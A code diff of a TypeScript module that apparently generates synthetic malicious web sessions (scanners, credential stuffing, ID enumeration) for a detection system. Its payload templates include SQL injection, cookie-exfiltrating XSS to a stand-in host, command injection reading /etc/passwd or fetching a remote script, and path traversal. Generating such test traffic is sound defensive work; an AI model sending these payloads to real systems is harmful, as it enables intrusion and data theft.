@@ -1,5 +1,5 @@
 import type { Session, SessionContext } from "../../events.ts"
-import type { SeededRandom } from "./random.ts"
+import type { Random } from "../random.ts"
 import { SessionSketch } from "./session-sketch.ts"
 import { BROWSER_AGENTS, emailOf, pagePath, WORDS } from "./vocabulary.ts"
 
@@ -35,41 +35,41 @@ const SCANNER_AGENTS = [
   "Wfuzz/3.1.0",
 ] as const
 
-function attackContext(random: SeededRandom): Partial<SessionContext> {
+function attackContext(random: Random): Partial<SessionContext> {
   return {
     isTor: random.chance(0.2),
     isVpn: random.chance(0.3),
-    priorPoiCount: random.chance(0.25) ? random.integer(1, 5) : 0,
+    priorPoiCount: random.chance(0.25) ? random.between(1, 5) : 0,
     country: random.pick(["DE", "US", "FR", "JP", "BR", "IN"]),
   }
 }
 
-function attackerOf(random: SeededRandom, userAgent: string): SessionSketch {
+function attackerOf(random: Random, userAgent: string): SessionSketch {
   const headers = random.chance(0.5) ? { accept: "*/*" } : { accept: "*/*", connection: "close" }
   return new SessionSketch(random, { userAgent, headers, context: attackContext(random) })
 }
 
 /** One payload of any of the four attack classes, put together from parts. */
-export function attackText(random: SeededRandom): string {
+export function attackText(random: Random): string {
   return random.pick([sqlText, scriptText, commandText, traversalText])(random)
 }
 
-function sqlText(random: SeededRandom): string {
+function sqlText(random: Random): string {
   const quote = random.pick(["'", '"', "", "')"])
   const column = random.pick(["username", "email", "version()", "table_name", "password"])
   const table = random.pick(["users", "information_schema.tables", "accounts", "admin"])
   const end = random.pick([" -- ", "#", " --+", ""])
-  const number = random.integer(1, 9)
+  const number = random.between(1, 9)
   return random.pick([
     `${quote} OR ${number}=${number}${end}`,
-    `${random.integer(-9, 9)}${quote} UNION SELECT NULL,${column} FROM ${table}${end}`,
+    `${random.between(-9, 9)}${quote} UNION SELECT NULL,${column} FROM ${table}${end}`,
     `${quote}; DROP TABLE ${table}${end}`,
     `${quote} AND SLEEP(${number})${end}`,
     `${number}${quote} AND (SELECT COUNT(${column}) FROM ${table})>${number}${end}`,
   ])
 }
 
-function scriptText(random: SeededRandom): string {
+function scriptText(random: Random): string {
   const call = random.pick(["alert(1)", "fetch('//x.example/'+document.cookie)", "confirm`1`"])
   return random.pick([
     `<script>${call}</script>`,
@@ -80,7 +80,7 @@ function scriptText(random: SeededRandom): string {
   ])
 }
 
-function commandText(random: SeededRandom): string {
+function commandText(random: Random): string {
   const command = random.pick(["id", "cat /etc/passwd", "uname -a", "wget http://x.example/a.sh"])
   const separator = random.pick([";", "|", "&&", "||", "\n"])
   return random.pick([
@@ -91,16 +91,16 @@ function commandText(random: SeededRandom): string {
   ])
 }
 
-function traversalText(random: SeededRandom): string {
-  const up = random.pick(["../", "..\\", "....//", "%2e%2e/", "..%2f"]).repeat(random.integer(2, 7))
+function traversalText(random: Random): string {
+  const up = random.pick(["../", "..\\", "....//", "%2e%2e/", "..%2f"]).repeat(random.between(2, 7))
   return `${up}${random.pick(["etc/passwd", "windows/win.ini", "proc/self/environ", "etc/shadow"])}`
 }
 
 /** A vulnerability scanner: fast, loud, a wordlist of paths, payloads in every parameter. */
-export function scannerSession(random: SeededRandom): Session {
+export function scannerSession(random: Random): Session {
   const named = random.chance(0.6)
   const sketch = attackerOf(random, random.pick(named ? SCANNER_AGENTS : BROWSER_AGENTS))
-  const requests = random.integer(15, 150)
+  const requests = random.between(15, 150)
   const gapMs = random.around(60, 0.8)
   for (let i = 0; i < requests; i++) {
     if (random.chance(0.6)) probe(sketch, random.around(gapMs, 0.5))
@@ -118,18 +118,18 @@ function probe(sketch: SessionSketch, gapMs: number): void {
 function inject(sketch: SessionSketch, gapMs: number): void {
   const { random } = sketch
   const status = random.pick([200, 200, 500, 403, 400])
-  const fields = { id: attackText(random), page: random.integer(1, 9) }
+  const fields = { id: attackText(random), page: random.between(1, 9) }
   const path = pagePath(random)
   if (random.chance(0.6)) sketch.add({ path, query: fields, gapMs, status })
   else sketch.add({ path, form: fields, gapMs, status })
 }
 
 /** Credential stuffing: one login form, a list of accounts, hardly a hit. */
-export function stuffingSession(random: SeededRandom): Session {
+export function stuffingSession(random: Random): Session {
   const agents = random.chance(0.4)
   const sketch = attackerOf(random, random.pick([...BROWSER_AGENTS, "python-requests/2.32.3"]))
   const path = random.pick(["/login", "/api/v1/auth", "/account/signin", "/wp-login.php"])
-  const attempts = random.integer(12, 120)
+  const attempts = random.between(12, 120)
   const gapMs = random.around(400, 1)
   for (let i = 0; i < attempts; i++) {
     const form = { username: emailOf(random), password: `${random.hex(6)}!A` }
@@ -142,11 +142,11 @@ export function stuffingSession(random: SeededRandom): Session {
 }
 
 /** Enumeration: the same place of a URL with number after number. */
-export function enumerationSession(random: SeededRandom): Session {
+export function enumerationSession(random: Random): Session {
   const sketch = attackerOf(random, random.pick(["curl/8.11.0", "", "python-requests/2.32.3"]))
   const path = random.pick(["/api/v1/users", "/invoices", "/download", "/api/orders"])
-  const first = random.integer(1, 5_000)
-  const requests = random.integer(25, 200)
+  const first = random.between(1, 5_000)
+  const requests = random.between(25, 200)
   const gapMs = random.around(150, 0.8)
   const asQuery = random.chance(0.4)
   for (let i = 0; i < requests; i++) {
@@ -158,7 +158,7 @@ export function enumerationSession(random: SeededRandom): Session {
 }
 
 /** A patient attacker with a browser's headers: one odd value among ordinary pages. */
-export function lowAndSlowSession(random: SeededRandom): Session {
+export function lowAndSlowSession(random: Random): Session {
   const headers = {
     accept: "text/html,application/xhtml+xml,*/*;q=0.8",
     "accept-language": "en-US,en;q=0.9",
@@ -168,8 +168,8 @@ export function lowAndSlowSession(random: SeededRandom): Session {
   }
   const userAgent = random.pick(BROWSER_AGENTS)
   const sketch = new SessionSketch(random, { userAgent, headers, context: attackContext(random) })
-  const pages = random.integer(4, 15)
-  const odd = random.integer(1, pages - 1)
+  const pages = random.between(4, 15)
+  const odd = random.between(1, pages - 1)
   for (let page = 0; page < pages; page++) {
     const gapMs = page === 0 ? 0 : random.around(40_000, 1)
     const q = page === odd ? attackText(random) : random.pick(WORDS)
